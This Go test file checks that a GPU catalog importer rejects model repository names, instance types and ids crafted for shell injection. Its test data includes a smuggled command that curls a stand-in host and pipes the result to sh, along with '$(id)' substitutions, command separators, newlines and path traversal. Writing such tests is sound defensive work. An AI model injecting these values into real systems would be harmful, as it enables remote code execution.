package catalog_test

import (
	"bytes"
	"strings"
	"testing"

	"gpuplace/internal/catalog"
)

// Ensure a bundle whose names would need quoting where a shell or a launch
// file reads them is refused on import, naming the item and field: a model
// repository with a command in it, an instance type with a separator, a
// region or GPU id with a newline.
func TestImportRefusesShellText(t *testing.T) {
	var buf bytes.Buffer
	if err := loadReal(t).Bundle(&buf); err != nil {
		t.Fatal(err)
	}
	bundle := buf.String()
	for _, tt := range []struct {
		name, old, new, field string
	}{
		{"repository with a command", `"repo":"meta-llama/Llama-3.1-8B-Instruct"`,
			`"repo":"meta-llama/Llama-3.1-8B-Instruct;curl${IFS}-s${IFS}http://evil.test/x|sh;#"`, "llm.repo"},
		{"repository with a quote", `"repo":"meta-llama/Llama-3.1-8B-Instruct"`, `"repo":"meta-llama/x'$(id)'"`, "llm.repo"},
		{"repository with a path", `"repo":"meta-llama/Llama-3.1-8B-Instruct"`, `"repo":"meta-llama/../x"`, "llm.repo"},
		{"instance type with a separator", `"instance_type":"g5.xlarge"`, `"instance_type":"g5.xlarge;id"`, "instance_type"},
		{"instance type with a newline", `"instance_type":"g5.xlarge"`, `"instance_type":"g5.xlarge\nrun: id"`, "instance_type"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if !strings.Contains(bundle, tt.old) {
				t.Fatalf("the bundle does not contain %s", tt.old)
			}
			_, err := catalog.LoadBundle(strings.NewReader(strings.ReplaceAll(bundle, tt.old, tt.new)), "upload.json")
			for _, p := range problemsOf(t, err) {
				if p.Field == tt.field {
					return
				}
			}
			t.Errorf("LoadBundle() problems =\n%v\nwant one at %s", err, tt.field)
		})
	}
}

// Ensure an id that is not a plain lower-case token is refused in every
// section whose ids reach launch files.
func TestImportRefusesOddIDs(t *testing.T) {
	for _, tt := range []struct{ file, old, new string }{
		{"gpus.json", `"id":"a"`, `"id":"a\n"`},
		{"regions.json", `"id":"eu"`, `"id":"eu $(id)"`},
		{"providers.json", `"id":"p1"`, `"id":"P1;"`},
	} {
		t.Run(tt.file, func(t *testing.T) {
			fsys := tinyFS(t)
			replace(t, fsys, tt.file, tt.old, tt.new)
			_, err := catalog.Load(fsys)
			for _, p := range problemsOf(t, err) {
				if p.File == tt.file && p.Field == "id" {
					return
				}
			}
			t.Errorf("Load() problems =\n%v\nwant one at %s: id", err, tt.file)
		})
	}
}
